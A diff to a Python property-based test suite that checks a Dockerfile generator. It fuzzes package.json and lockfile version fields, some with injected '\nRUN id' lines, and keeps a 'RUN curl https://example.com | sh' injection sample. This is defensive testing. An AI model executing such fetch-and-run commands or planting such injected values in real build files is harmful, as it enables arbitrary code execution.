@@ -18,6 +18,10 @@ from tests.planning.cases import TEMPLATES, tree_of
 
 INSTRUCTIONS = {"FROM", "RUN", "COPY", "ENV", "WORKDIR"}
 FROM_LINE = re.compile(r"FROM (python:[0-9.]+-slim|node:[0-9.]+-slim|debian:bookworm-slim)")
+NPM_STEP = re.compile(
+    r"RUN npm install -g --force --no-audit --no-fund --loglevel=error( --allow-scripts=bun)?"
+    r"( (@yarnpkg/cli-dist|yarn|pnpm|bun|npm)@[0-9]+\.[0-9]+\.[0-9]+(-[A-Za-z]+(\.[0-9]+)?)?)+"
+)
 ATTACK = "22\nRUN curl https://example.com | sh"
 HINT = st.one_of(
     st.text(max_size=40),
@@ -47,7 +51,9 @@ def assert_harmless(made: Plan) -> None:
     assert FROM_LINE.fullmatch(written[0])
     runs = [line for line in written if line.startswith("RUN")]
     assert all(
-        line.startswith(("RUN apt-get update", "RUN pip install --no-cache-dir uv==", "RUN ln -sf")) for line in runs
+        line.startswith(("RUN apt-get update", "RUN pip install --no-cache-dir uv==", "RUN ln -sf"))
+        or NPM_STEP.fullmatch(line)
+        for line in runs
     )
     assert "curl https" not in made.dockerfile
     assert not re.search(r"[{}%`$]", made.dockerfile)
@@ -94,6 +100,29 @@ def test_any_text_in_a_manifest_is_refused_or_harmless(node: str, python: str, n
     manifest = {"engines": {"node": node}, "scripts": {"lint": script, name: script}, "dependencies": {name: node}}
     toml = f"[project]\nrequires-python = {json.dumps(python)}\ndependencies = [{json.dumps(name)}]\n"
     made = plan_or_sentence({"package.json": json.dumps(manifest), "pyproject.toml": toml, "app.py": ""})
+    if isinstance(made, str):
+        assert made.isprintable()
+    else:
+        assert_harmless(made)
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    name=st.sampled_from(["npm", "yarn", "pnpm", "bun"]),
+    hint=st.one_of(HINT, st.from_regex(r"[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}([-+][a-z0-9.]{1,9})?(\nRUN id)?")),
+    field=st.sampled_from(["packageManager", "engines", "volta", "devEngines"]),
+    lock=st.sampled_from(["yarn.lock", "pnpm-lock.yaml", "bun.lock", ".yarnrc.yml", ".bun-version", "x"]),
+)
+def test_any_text_about_a_manager_of_node_is_refused_or_harmless(name: str, hint: str, field: str, lock: str) -> None:
+    fields: dict[str, object] = {
+        "packageManager": f"{name}@{hint}",
+        "engines": {name: hint},
+        "volta": {name: hint},
+        "devEngines": {"packageManager": {"name": name, "version": hint}},
+    }
+    texts = f"yarnPath: .yarn/releases/yarn-{hint}.cjs\nlockfileVersion: '{hint}'\n__metadata:\n  version: {hint}\n"
+    files = {"package.json": json.dumps({field: fields[field]}), lock: hint if lock == ".bun-version" else texts}
+    made = plan_or_sentence({**files, f".yarn/releases/yarn-{hint}.cjs": ""})
     if isinstance(made, str):
         assert made.isprintable()
     else:
